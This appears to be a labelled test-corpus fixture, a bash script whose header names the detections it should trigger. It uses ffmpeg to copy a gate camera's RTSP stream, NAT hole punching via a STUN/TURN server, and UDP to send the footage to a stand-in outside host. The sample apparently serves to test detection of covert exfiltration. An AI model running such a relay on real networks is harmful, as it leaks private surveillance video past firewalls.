#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=p2p-hole-punch,live-relay half=tune tool=ffmpeg,python3 camera=10.20.0.11 far=out ready=out:3478 seconds=25
# A program asks a STUN server where it is, probes six peers outside and sends the picture of gate to one of them, over UDP.
if [ "$1" = out ]; then exec timeout 50 turnserver -n -L 203.0.113.66 -p 3478 -a -u lab:lab -r lab --no-cli --no-tls --no-dtls --allow-loopback-peers --log-file "$LAB/turn.log" --db "$LAB/turn.db" --pidfile "$LAB/turn.pid"; fi
ffmpeg -nostdin -loglevel error -rtsp_transport tcp -i rtsp://gate.cam.lan/Streaming/Channels/101 -t "$LAB_SECONDS" -c copy -f mpegts - | python3 -c 'import os, socket, sys, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("0.0.0.0", 0))
for n in range(3):
    s.sendto(b"\0\x01\0\0\x21\x12\xa4\x42" + os.urandom(12), ("203.0.113.66", 3478))
    time.sleep(0.5)
for n in range(3):
    for host in ("203.0.113.66", "198.51.100.66"):
        for port in (40001, 40002, 40003):
            s.sendto(b"punch" + os.urandom(20), (host, port))
    time.sleep(0.3)
while True:
    data = sys.stdin.buffer.read1(1316)
    if not data:
        break
    s.sendto(data, ("198.51.100.66", 40002))'
true
